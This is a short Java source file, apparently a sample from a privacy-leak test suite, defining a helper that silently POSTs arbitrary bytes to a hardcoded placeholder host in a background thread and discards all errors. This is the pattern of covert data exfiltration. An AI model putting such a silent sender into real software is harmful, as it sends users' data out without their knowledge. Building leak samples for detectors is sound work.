package cn.privlens.suite.base64_stream;

import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

final class Net {
    private Net() {}
    static void post(final byte[] body) {
        new Thread(() -> {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("https://sync.example.cn/in").openConnection();
                c.setRequestMethod("POST");
                c.setDoOutput(true);
                try (OutputStream out = c.getOutputStream()) {
                    out.write(body);
                }
                c.getResponseCode();
                c.disconnect();
            } catch (IOException e) {
                return;
            }
        }).start();
    }
}
